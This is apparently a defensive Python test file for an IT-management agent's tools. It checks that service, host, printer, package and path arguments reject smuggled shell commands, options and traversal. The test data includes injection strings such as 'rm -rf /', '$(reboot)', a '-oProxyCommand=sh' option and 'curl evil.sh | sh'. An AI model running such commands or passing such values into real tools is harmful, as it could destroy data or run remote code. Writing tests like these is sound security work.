"""Arguments that try to smuggle shell text, options or paths are rejected before any
command is built. Property tests throw arbitrary text at the validated fields.
"""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from mspclaw_agent.tools import TOOLS, InvalidToolArguments, run_tool
from mspclaw_agent.tools.base import ps_literal
from mspclaw_agent.tools.services import ALLOWED_SERVICES

ATTACKS = [
    "spooler; rm -rf /",
    "Spooler' ; Stop-Computer ; '",
    "$(reboot)",
    "`id`",
    "a && b",
    "x | y",
    "--help",
    "-oProxyCommand=sh",
    "name\nsecond",
    "../../etc/passwd",
]


@pytest.mark.parametrize("attack", ATTACKS)
async def test_service_names_come_only_from_the_allow_list(attack: str) -> None:
    with pytest.raises(InvalidToolArguments, match="service"):
        await run_tool("restart_service", {"service": attack})


@pytest.mark.parametrize("attack", ATTACKS)
async def test_hosts_and_printers_reject_shell_and_options(attack: str) -> None:
    with pytest.raises(InvalidToolArguments, match="host"):
        await run_tool("ping", {"host": attack})
    with pytest.raises(InvalidToolArguments, match="printer"):
        await run_tool("clear_print_queue", {"printer": attack})
    with pytest.raises(InvalidToolArguments, match="name"):
        await run_tool("dns_resolve", {"name": attack})


@pytest.mark.parametrize("package", ["utorrent", "vlc; curl evil.sh | sh", "--reinstall", "VLC"])
async def test_packages_only_from_the_catalog(package: str) -> None:
    for tool in ("install_package", "uninstall_package", "update_package"):
        with pytest.raises(InvalidToolArguments, match="package"):
            await run_tool(tool, {"package": package})


@pytest.mark.parametrize(
    "path",
    [
        "/etc",
        "/",
        "/home",
        "relative/tmp",
        "/tmp/../etc",  # noqa: S108 - a traversal attempt, not a temp file
        "/usr/lib",
        "~/.cache",
    ],
)
async def test_cleanup_paths_outside_roots_are_rejected(path: str) -> None:
    with pytest.raises(InvalidToolArguments, match="paths"):
        await run_tool("cleanup_temp", {"paths": [path]})


async def test_cleanup_rejects_a_symlink_escaping_the_root(tmp_path) -> None:  # type: ignore[no-untyped-def]
    link = tmp_path / "escape"
    link.symlink_to("/etc")
    with pytest.raises(InvalidToolArguments, match="outside the allowed cleanup roots"):
        await run_tool("cleanup_temp", {"paths": [str(link)]})


async def test_extra_arguments_are_refused() -> None:
    with pytest.raises(InvalidToolArguments, match="command"):
        await run_tool("system_info", {"command": "id"})


_DANGEROUS = set(" ;|&$`'\"\n\t<>(){}*?!\\")


@given(st.text(max_size=40))
def test_a_valid_host_is_never_an_option_or_shell_text(text: str) -> None:
    model = TOOLS["ping"].args_model
    try:
        value = model.model_validate({"host": text}).host  # type: ignore[attr-defined]
    except ValueError:
        return
    assert not value.startswith("-")
    assert not (set(value) & _DANGEROUS)


@given(st.text(max_size=40))
def test_a_valid_printer_name_is_never_an_option_or_shell_text(text: str) -> None:
    model = TOOLS["clear_print_queue"].args_model
    try:
        value = model.model_validate({"printer": text}).printer  # type: ignore[attr-defined]
    except ValueError:
        return
    assert not value.startswith("-") and not (set(value) & _DANGEROUS)


@given(st.text(max_size=30))
def test_powershell_literal_never_leaves_the_string(text: str) -> None:
    literal = ps_literal(text)
    inner = literal[1:-1]
    assert literal.startswith("'") and literal.endswith("'")
    assert inner.replace("''", "").count("'") == 0


def test_native_service_names_are_plain_identifiers() -> None:
    import re

    for names in ALLOWED_SERVICES.values():
        for native in names.values():
            assert re.fullmatch(r"[A-Za-z0-9_./-]+", native)
